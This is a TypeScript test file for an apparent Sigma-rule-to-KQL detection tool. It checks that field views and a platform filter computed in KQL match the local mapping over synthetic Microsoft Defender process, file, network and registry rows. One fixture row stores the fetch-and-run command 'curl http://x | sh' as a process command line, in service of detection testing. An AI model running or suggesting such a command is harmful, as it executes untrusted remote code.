/**
 * Every view's KQL form gives the value the mapping's own `get` gives, row by row: the subset
 * interpreter runs `<Table> | extend … | project value` over realistic Defender rows (and the awkward
 * ones: folder-only paths, missing domains, renamed keys, QWORDs, inbound connections, URLs with user
 * info, ports and brackets, IPv4-mapped addresses) and the answers are compared with `view.get`.
 */
import type { MdeEvent, TableName } from '@tripline/core';
import { eventPlatform, mdeMapping, mdeMappingTable, type SigmaFieldValue, type SigmaRoute } from '@tripline/sigma';
import { describe, expect, it } from 'vitest';
import { linuxRow, windowsRow } from '../../../sigma/test/support/mde-rows.js';
import { runKql } from '../../src/check/index.js';
import { platformFilter, viewForm } from '../../src/emit/views.js';

const proc = (extra: Record<string, unknown>) => windowsRow('DeviceProcessEvents', 'ProcessCreated', extra);
const file = (action: string, extra: Record<string, unknown>) => windowsRow('DeviceFileEvents', action, extra);
const net = (action: string, extra: Record<string, unknown>) => windowsRow('DeviceNetworkEvents', action, extra);
const reg = (action: string, extra: Record<string, unknown>) => windowsRow('DeviceRegistryEvents', action, extra);

const ROWS: Partial<Record<TableName, MdeEvent[]>> = {
  DeviceProcessEvents: [
    proc({
      FileName: 'whoami.exe',
      FolderPath: 'C:\\Windows\\System32\\whoami.exe',
      ProcessCommandLine: 'whoami /all',
      AccountDomain: 'CONTOSO',
      AccountName: 'j.doe',
      LogonId: 999,
      ProcessId: 4242,
      ProcessIntegrityLevel: 'High',
      SHA1: 'aa11bb22cc33dd44ee55ff6677889900aabbccdd',
      MD5: '0123456789abcdef0123456789abcdef',
      ProcessVersionInfoOriginalFileName: 'whoami.exe',
    }),
    proc({ FileName: 'cmd.exe', FolderPath: 'C:\\Windows\\System32', AccountName: 'system', LogonId: 0 }),
    proc({ FileName: 'a.exe', FolderPath: 'C:\\Temp\\', InitiatingProcessFolderPath: '', SHA256: 'ABCDEF' }),
    proc({ FileName: 'x', FolderPath: 'x', InitiatingProcessFileName: '', AccountDomain: 'D' }),
    linuxRow('DeviceProcessEvents', 'ProcessCreated', {
      FileName: 'curl',
      FolderPath: '/usr/bin/curl',
      ProcessCommandLine: 'curl http://x | sh',
      AccountName: 'root',
      AccountDomain: 'web-01',
      LogonId: 12345,
      ProcessId: 99,
    }),
    linuxRow('DeviceProcessEvents', 'ProcessCreated', { FileName: 'sh', FolderPath: '/bin' }),
  ],
  DeviceFileEvents: [
    file('FileCreated', { FileName: 'evil.lnk', FolderPath: 'C:\\Users\\j.doe\\Desktop\\evil.lnk', SHA1: 'ab' }),
    file('FileRenamed', {
      FileName: 'b.txt',
      FolderPath: 'C:\\Temp',
      PreviousFileName: 'a.txt',
      PreviousFolderPath: 'C:\\Temp',
      InitiatingProcessParentFileName: 'C:\\Windows\\explorer.exe',
    }),
    file('FileDeleted', { FileName: 'c.txt', FolderPath: '', InitiatingProcessParentFileName: '' }),
    linuxRow('DeviceFileEvents', 'FileCreated', { FileName: 'x.sh', FolderPath: '/tmp/x.sh' }),
  ],
  DeviceNetworkEvents: [
    net('ConnectionSuccess', {
      RemoteIP: '203.0.113.7',
      RemotePort: 443,
      LocalIP: '10.1.2.3',
      LocalPort: 50123,
      RemoteUrl: 'https://user@host.example.com:8443/path?q=1#f',
      Protocol: 'TcpV4',
    }),
    net('InboundConnectionAccepted', {
      RemoteIP: '::ffff:198.51.100.9',
      RemotePort: 51000,
      LocalIP: 'fe80::1',
      LocalPort: 3389,
      RemoteUrl: '[2001:db8::1]:443',
      Protocol: 'Tcp',
    }),
    net('ConnectionFound', { RemoteIP: '2001:db8::2', RemoteUrl: 'evil.example:80', Protocol: 'UdpV6' }),
    net('ConnectionAttempt', { RemoteUrl: 'fe80::1', LocalIP: '::ffff:10.0.0.1' }),
    net('ConnectionFailed', { RemoteUrl: 'http://', RemoteIP: '' }),
    linuxRow('DeviceNetworkEvents', 'ConnectionSuccess', { RemoteIP: '8.8.8.8', RemotePort: 53, Protocol: 'Udp' }),
  ],
  DeviceRegistryEvents: [
    reg('RegistryValueSet', {
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\Svc',
      RegistryValueName: 'Start',
      RegistryValueType: 'Dword',
      RegistryValueData: '4',
    }),
    reg('RegistryValueSet', {
      RegistryKey: 'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      RegistryValueName: '',
      RegistryValueType: 'String',
      RegistryValueData: '',
    }),
    reg('RegistryValueSet', {
      RegistryKey: 'HKEY_USERS\\S-1-5-18\\Software',
      RegistryValueName: 'Big',
      RegistryValueType: 'Qword',
      RegistryValueData: '81985529216486895',
    }),
    reg('RegistryValueSet', {
      RegistryKey: 'HKEY_CLASSES_ROOT\\.evil\\',
      RegistryValueName: 'x',
      RegistryValueType: 'Dword',
      RegistryValueData: '-1',
    }),
    reg('RegistryValueSet', {
      RegistryKey: '\\REGISTRY\\MACHINE\\SOFTWARE\\Policies',
      RegistryValueName: 'Blob',
      RegistryValueType: 'Binary',
      RegistryValueData: '0A0B',
    }),
    reg('RegistryValueSet', { RegistryKey: 'HKEY_LOCAL_MACHINE', RegistryValueName: 'v', RegistryValueData: 'text' }),
    reg('RegistryKeyRenamed', {
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\New',
      PreviousRegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001',
    }),
    reg('RegistryKeyCreated', { RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet0012\\x' }),
    reg('RegistryValueDeleted', { RegistryKey: 'HKLM\\Software\\x', RegistryValueName: 'gone' }),
    reg('RegistryKeyDeleted', { RegistryKey: '\\REGISTRY\\USER\\S-1-5-18' }),
  ],
};

function text(v: SigmaFieldValue): string | null {
  if (v === undefined || v === null) return null;
  const s = String(v);
  return s === '' ? null : s;
}

function views(): { key: string; route: SigmaRoute; field: string }[] {
  const mapping = mdeMapping();
  const seen = new Set<string>();
  const out: { key: string; route: SigmaRoute; field: string }[] = [];
  for (const r of mdeMappingTable().routes) {
    const routed = mapping.route({ product: r.product, category: r.category });
    if (!routed.ok) continue;
    for (const t of mdeMappingTable().tables) {
      if (t.table !== r.table || t.platform !== r.product) continue;
      for (const f of t.fields) {
        const v = mapping.field(routed.route, f.field);
        if (!v.ok || seen.has(v.view.key)) continue;
        seen.add(v.view.key);
        out.push({ key: v.view.key, route: routed.route, field: f.field });
      }
    }
  }
  return out;
}

describe('every view in KQL gives the value of the view in the local engine', () => {
  const mapping = mdeMapping();
  for (const { key, route, field } of views()) {
    it(key, () => {
      const form = viewForm(key);
      expect(form.ok).toBe(true);
      if (!form.ok) return;
      const view = mapping.field(route, field);
      if (!view.ok) throw new Error(key);
      const rows = ROWS[route.table] ?? [];
      expect(rows.length).toBeGreaterThan(3);
      const lines = [route.table, ...form.kql.extend.map(([n, e]) => `| extend ${n} = ${e}`)];
      lines.push(`| project ReportId, tl_Value = ${form.kql.value}`);
      const result = runKql(lines.join('\n'), { [route.table]: rows });
      expect(result.rows).toHaveLength(rows.length);
      for (const [i, row] of result.rows.entries()) {
        const kql = row.values.tl_Value;
        const got = kql === undefined || kql === null ? null : String(kql) === '' ? null : String(kql);
        expect(got, `${key} on row ${i}`).toBe(text(view.view.get(rows[i]!)));
      }
    });
  }
});

describe('the platform filter in KQL gives the kind of device the mapping gives', () => {
  const kinds = (table: TableName, rows: MdeEvent[]): void => {
    const mapping = mdeMapping();
    const routed = mapping.route({
      product: 'windows',
      category:
        table === 'DeviceNetworkEvents'
          ? 'network_connection'
          : table === 'DeviceFileEvents'
            ? 'file_event'
            : 'process_creation',
    });
    if (!routed.ok) throw new Error('unroutable');
    const filter = platformFilter(routed.route)!;
    const q = `${table}\n| extend ${filter.extend[0]} = ${filter.extend[1]}\n| project ReportId, ${filter.extend[0]}`;
    const result = runKql(q, { [table]: rows });
    const got = result.rows.map((r) => (r.values.tl_Platform === '' ? undefined : r.values.tl_Platform));
    expect(got).toEqual(rows.map((e) => eventPlatform(e)));
  };

  it('reads path columns in the mapping order, then POSIX keys of AdditionalFields', () => {
    kinds('DeviceProcessEvents', [
      proc({ FolderPath: 'C:\\Windows\\System32\\cmd.exe' }),
      proc({ FolderPath: '\\\\server\\share\\a.exe' }),
      proc({ FolderPath: '/usr/bin/curl' }),
      proc({ FolderPath: 'cmd.exe', InitiatingProcessFolderPath: '/bin/bash' }),
      proc({ FolderPath: '', InitiatingProcessFolderPath: '' }),
    ]);
    kinds('DeviceFileEvents', [
      file('FileRenamed', { FolderPath: '', InitiatingProcessFolderPath: '', PreviousFolderPath: '/tmp' }),
      file('FileCreated', { FolderPath: 'x', InitiatingProcessFolderPath: 'y', PreviousFolderPath: 'd:\\z' }),
    ]);
    kinds('DeviceNetworkEvents', [
      net('ConnectionSuccess', { InitiatingProcessFolderPath: '' }),
      net('ConnectionSuccess', {
        InitiatingProcessFolderPath: '',
        AdditionalFields: JSON.stringify({ InitiatingProcessPosixEffectiveUser: { Name: 'root' } }),
      }),
      net('ConnectionSuccess', {
        InitiatingProcessFolderPath: '',
        AdditionalFields: JSON.stringify({ Note: 'a "Posix": value', Other: 'Posix' }),
      }),
      net('ConnectionSuccess', {
        InitiatingProcessFolderPath: 'c:\\windows\\svchost.exe',
        AdditionalFields: JSON.stringify({ PosixThing: 1 }),
      }),
    ]);
  });
});
